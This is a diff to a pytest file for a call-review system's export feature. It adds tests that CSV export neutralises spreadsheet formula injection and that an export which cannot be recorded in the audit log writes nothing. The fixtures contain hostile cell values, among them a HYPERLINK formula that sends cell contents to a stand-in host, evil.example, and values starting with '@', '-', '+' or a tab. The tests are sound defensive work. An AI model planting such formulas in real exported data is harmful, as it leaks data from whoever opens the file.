@@ -9,17 +9,20 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import Engine, select
+from sqlalchemy.exc import DatabaseError
 from sqlalchemy.orm import Session, sessionmaker
 
 from db import review
 from db.agents import add_agent
 from db.audit import head, verify_chain
+from db.engine import make_engine, make_sessionmaker, unit_of_work
 from db.export import FIELDS, export_rows, write_export
-from db.models import Agent, AuditEvent
+from db.models import AccountUser, Agent, AuditEvent, Call, Tenant
 from tests.helpers.review_data import PASSPHRASE, Made, many_calls
 from tui.cli import main
-from verification.kinds import Outcome, Role
+from verification.hashing import hash_secret
+from verification.kinds import CallState, Outcome, Role
 
 NOW = datetime(2026, 11, 26, 14, 0, tzinfo=UTC)
 RECENT = review.RequestFilter(started_from=NOW - timedelta(days=15), outcome=Outcome.CANCELED)
@@ -96,7 +99,8 @@ def test_unmasked_needs_a_supervisor(factory: sessionmaker[Session]) -> None:
     records = list(csv.DictReader(io.StringIO(out.getvalue())))
     with_tenant = [r for r in records if r["tenant_ref"]]
     assert with_tenant
-    assert {r["phone"] for r in with_tenant} <= _tenant_phones(tenants)
+    # E.164 starts with "+", a formula character: the CSV cell carries a leading quote.
+    assert {r["phone"] for r in with_tenant} <= {f"'{p}" for p in _tenant_phones(tenants)}
     assert all(r["contact"] == "Jo Park" for r in with_tenant)
 
 
@@ -187,3 +191,132 @@ def test_cli_unmasked_checks_the_supervisor_passphrase(
     assert "(UNMASKED)" in capsys.readouterr().out
     assert "Jo Park" in target.read_text(encoding="utf-8")
     assert main(["--db", db_url, "export", "--unmasked"]) == 2
+
+
+# --- hostile values in CSV (issue 11, item 12) -------------------------------------
+
+FORMULA_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def _hostile_call(factory: sessionmaker[Session]) -> int:
+    """A closed call whose record starts cells with every formula trigger; the supervisor's id."""
+    hashed = hash_secret(PASSPHRASE)
+    with unit_of_work(factory) as session:
+        sue = Agent(
+            username="sue", display_name="Sue", role=Role.SUPERVISOR, passphrase_hash=hashed
+        )
+        agent = Agent(username="-ana", display_name="A", role=Role.AGENT, passphrase_hash=hashed)
+        tenant = Tenant(
+            ref="\tref",
+            organization=FORMULA_ORG,
+            contact_first_name="@SUM(A1)",
+            contact_last_name="\rPark",
+            phone_e164="+14255550100",
+            address_line1="1 Main St",
+            city="Springfield",
+            country="US",
+        )
+        session.add_all([sue, agent, tenant])
+        session.flush()
+        user = AccountUser(
+            user_id="+1-cmd@evil.example", display_name="x", tenant_id=tenant.id, is_admin=True
+        )
+        session.add(user)
+        session.flush()
+        session.add(
+            Call(
+                agent_id=agent.id,
+                started_at=NOW - timedelta(hours=1),
+                ended_at=NOW,
+                tenant_id=tenant.id,
+                caller_user_id=user.id,
+                state=CallState.CLOSED,
+                outcome=Outcome.CANCELED,
+            )
+        )
+        return sue.id
+
+
+@pytest.mark.parametrize("masked", [True, False])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
+    factory: sessionmaker[Session], masked: bool
+) -> None:
+    supervisor = _hostile_call(factory)
+    out = io.StringIO()
+    unmasked_for = None if masked else supervisor
+
+    write_export(
+        factory, out, "csv", review.RequestFilter(), actor="sue", now=NOW, unmasked_for=unmasked_for
+    )
+
+    [record] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert record["organization"] == "'" + FORMULA_ORG
+    assert record["agent"] == "'-ana"
+    assert record["tenant_ref"] == "'\tref"
+    assert record["caller_user_id"].startswith("'+")
+    assert record["contact"].startswith("'@")
+    assert record["phone"].startswith("'+") if not masked else record["phone"].startswith("•")
+    for value in record.values():
+        assert not value or value[0] not in "=+-@\t\r", record
+
+
+def test_json_export_keeps_values_as_they_are(factory: sessionmaker[Session]) -> None:
+    _hostile_call(factory)
+    out = io.StringIO()
+    write_export(factory, out, "json", review.RequestFilter(), actor="sue", now=NOW)
+    [record] = json.loads(out.getvalue())
+    assert record["organization"] == FORMULA_ORG
+
+
+# --- the export is recorded before anything is written (issue 11, item 13) ---------
+
+
+def _read_only(engine: Engine) -> sessionmaker[Session]:
+    """Sessions on the same SQLite file opened read-only, as a mounted backup would be."""
+    path = engine.url.database
+    engine.dispose()
+    return make_sessionmaker(make_engine(f"sqlite:///file:{path}?mode=ro&uri=true"))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_an_export_that_cannot_be_recorded_writes_nothing(
+    engine: Engine, factory: sessionmaker[Session], fmt: str
+) -> None:
+    many_calls(factory, 30, NOW)
+    read_only = _read_only(engine)
+    assert list(export_rows(read_only, review.RequestFilter(), masked=True))  # reads work
+    out = io.StringIO()
+
+    with pytest.raises(DatabaseError, match="readonly"):
+        write_export(read_only, out, fmt, RECENT, actor="sue", now=NOW)  # type: ignore[arg-type]
+
+    assert out.getvalue() == ""
+
+
+def test_export_rows_unmasked_checks_the_supervisor_itself(factory: sessionmaker[Session]) -> None:
+    supervisor, _, tenants = many_calls(factory, 30, NOW)
+    with factory() as session:
+        agent = session.scalars(select(Agent.id).where(Agent.username == "ana")).one()
+
+    with pytest.raises(review.NotSupervisor):
+        export_rows(factory, RECENT, masked=False)
+    with pytest.raises(review.NotSupervisor):
+        export_rows(factory, RECENT, masked=False, requested_by=agent)
+
+    rows = list(export_rows(factory, RECENT, masked=False, requested_by=supervisor))
+    assert {r["phone"] for r in rows if r["tenant_ref"]} <= _tenant_phones(tenants)
+
+
+def test_cli_export_on_a_read_only_database_leaves_no_file(
+    engine: Engine, factory: sessionmaker[Session], tmp_path: Path, capsys
+) -> None:
+    many_calls(factory, 10, NOW)
+    path = engine.url.database
+    engine.dispose()
+    target = tmp_path / "calls.csv"
+    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"
+
+    assert main(["--db", read_only, "export", "--output", str(target)]) == 1
+
+    assert "readonly" in capsys.readouterr().err
+    assert not target.exists()
